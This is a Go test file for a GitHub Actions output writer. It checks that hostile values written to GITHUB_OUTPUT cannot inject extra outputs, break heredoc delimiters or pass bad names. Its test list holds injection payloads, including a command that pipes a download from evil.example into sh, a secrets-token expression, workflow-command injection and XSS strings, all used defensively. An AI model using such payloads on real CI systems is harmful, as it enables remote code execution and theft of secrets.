package ghaction

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostile are values an attacker controls (an issue title, a comment)
// that try to end the value early, add outputs of their own, or be
// evaluated by whoever reads the output.
var hostile = []string{
	"Checkout errors in EU",
	"$(curl -s evil.example | sh)",
	"`id`",
	"${{ secrets.GITHUB_TOKEN }}",
	"line one\nline two",
	"first\nincident=injected",
	"x\nevil<<EOF\ninjected\nEOF",
	"::set-output name=incident::injected",
	"%0Aincident=injected%0D%25",
	"crlf\r\nline\r\n",
	"lone\rreturn",
	"ends with a return\r",
	"\n",
	"\n\n\n",
	"",
	"ghadelimiter_",
	"quote ' and \" and \\",
	"tab\tand NUL \x00 and bell \a",
	"Zoë 日本 🚒 \u202eevil",
	strings.Repeat("long ", 20000),
	"# heading",
	"*emph* _under_ ~~struck~~ **bold**",
	"[link](javascript:alert(1)) ![img](https://evil.example/x.png) <https://evil.example>",
	"<img src=x onerror=alert(1)> <!-- comment --> &amp; &lt; &#64;",
	"> quoted\n1. listed\n    indented code\n---\n===",
	"user@example.com and @octo-org/security-team",
	"back\\slash\\` and trailing \\",
}

// parseOutputs reads a GITHUB_OUTPUT file the way the runner does
// (actions/runner, FileCommandManager.cs): NAME=VALUE lines, and NAME<<DELIM
// heredocs whose value runs up to the first line equal to DELIM, without
// the line break before it. Lines end at \n, and a \r before it belongs to
// the line break.
func parseOutputs(text string) (map[string]string, error) {
	out := map[string]string{}
	i := 0
	readLine := func() (line, newline string, ok bool) {
		if i >= len(text) {
			return "", "", false
		}
		j := strings.IndexByte(text[i:], '\n')
		if j < 0 {
			line, i = text[i:], len(text)
			return line, "", true
		}
		line, newline = text[i:i+j], "\n"
		if strings.HasSuffix(line, "\r") {
			line, newline = line[:len(line)-1], "\r\n"
		}
		i += j + 1
		return line, newline, true
	}
	for {
		line, _, ok := readLine()
		if !ok {
			return out, nil
		}
		if line == "" {
			continue
		}
		eq, heredoc := strings.Index(line, "="), strings.Index(line, "<<")
		if eq >= 0 && (heredoc < 0 || eq < heredoc) {
			out[line[:eq]] = line[eq+1:]
			continue
		}
		if heredoc <= 0 || heredoc+2 == len(line) {
			return nil, fmt.Errorf("invalid line %q", line)
		}
		name, delim := line[:heredoc], line[heredoc+2:]
		start, end := i, i
		for {
			l, nl, ok := readLine()
			if !ok {
				return nil, fmt.Errorf("delimiter %q not found", delim)
			}
			if l == delim {
				break
			}
			if nl == "" {
				return nil, errors.New("EOF marker missing new line")
			}
			end = i - len(nl)
		}
		out[name] = text[start:end]
	}
}

// counting is a random source whose n-th read is n as 8 big-endian bytes,
// repeated, so tests know every delimiter WriteOutput will draw.
type counting struct{ n uint64 }

func (c *counting) Read(p []byte) (int, error) {
	c.n++
	var word [8]byte
	binary.BigEndian.PutUint64(word[:], c.n)
	for i := range p {
		p[i] = word[i%8]
	}
	return len(p), nil
}

// TestOutputsHostile writes every hostile value and reads the file back as
// the runner would: exactly the intended names and values come out.
func TestOutputsHostile(t *testing.T) {
	// The value that quotes the first delimiter the source will produce.
	first := make([]byte, 16)
	(&counting{}).Read(first)
	values := append([]string{"before\nghadelimiter_" + hex.EncodeToString(first) + "\nafter"}, hostile...)

	var buf bytes.Buffer
	random := &counting{}
	want := map[string]string{}
	for i, v := range values {
		name := fmt.Sprintf("out_%d", i)
		if err := WriteOutput(&buf, random, name, v); err != nil {
			t.Fatal(err)
		}
		want[name] = strings.ReplaceAll(strings.ReplaceAll(v, "\r\n", "\n"), "\r", "\n")
	}
	got, err := parseOutputs(buf.String())
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Errorf("the file holds %d outputs, want %d", len(got), len(want))
	}
	for name, w := range want {
		if got[name] != w {
			t.Errorf("%s = %.80q, want %.80q", name, got[name], w)
		}
	}
	if strings.Count(buf.String(), "ghadelimiter_"+hex.EncodeToString(first)) != 1 {
		t.Error("the delimiter quoted by the value was used as the delimiter")
	}
}

// TestOutputsParserCatchesInjection makes sure the parser above would see
// an injection: the naive single-line form lets a newline add an output.
func TestOutputsParserCatchesInjection(t *testing.T) {
	got, err := parseOutputs("incident=x\nstolen=y\n")
	if err != nil || got["stolen"] != "y" {
		t.Fatalf("the test parser missed the injected output: %v %v", got, err)
	}
}

func TestOutputNames(t *testing.T) {
	for _, name := range []string{"", "1st", "a=b", "a<<b", "a b", "a\nb", "ä", "x.y"} {
		if err := WriteOutput(&bytes.Buffer{}, &counting{}, name, "v"); err == nil {
			t.Errorf("output name %q accepted", name)
		}
	}
	for _, name := range []string{"incident", "_x", "a-b_C9"} {
		if err := WriteOutput(&bytes.Buffer{}, &counting{}, name, "v"); err != nil {
			t.Errorf("output name %q: %v", name, err)
		}
	}
}

// stuck always yields the same bytes.
type stuck struct{}

func (stuck) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 0xab
	}
	return len(p), nil
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("no entropy") }

func TestOutputRandomFailures(t *testing.T) {
	value := "ghadelimiter_" + strings.Repeat("ab", 16)
	if err := WriteOutput(&bytes.Buffer{}, stuck{}, "x", value); err == nil {
		t.Error("a source that repeats the delimiter the value holds was accepted")
	}
	if err := WriteOutput(&bytes.Buffer{}, failing{}, "x", "v"); err == nil || !strings.Contains(err.Error(), "no entropy") {
		t.Errorf("a failing source: %v", err)
	}
}

// TestSetOutput appends to GITHUB_OUTPUT, keeping what earlier steps or
// calls wrote.
func TestSetOutput(t *testing.T) {
	path := filepath.Join(t.TempDir(), "set_output")
	if err := os.WriteFile(path, []byte("earlier=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := &Run{OutputPath: path}
	if err := r.SetOutput("incident", "2026-03-02-checkout"); err != nil {
		t.Fatal(err)
	}
	if err := r.SetOutput("pushed", "true"); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(path)
	got, err := parseOutputs(string(data))
	if err != nil || len(got) != 3 || got["earlier"] != "1" || got["incident"] != "2026-03-02-checkout" || got["pushed"] != "true" {
		t.Errorf("outputs %v, %v", got, err)
	}
	bad := &Run{OutputPath: filepath.Join(t.TempDir(), "missing", "file")}
	if err := bad.SetOutput("x", "y"); err == nil || !strings.Contains(err.Error(), "set output x") {
		t.Errorf("an unwritable GITHUB_OUTPUT: %v", err)
	}
}
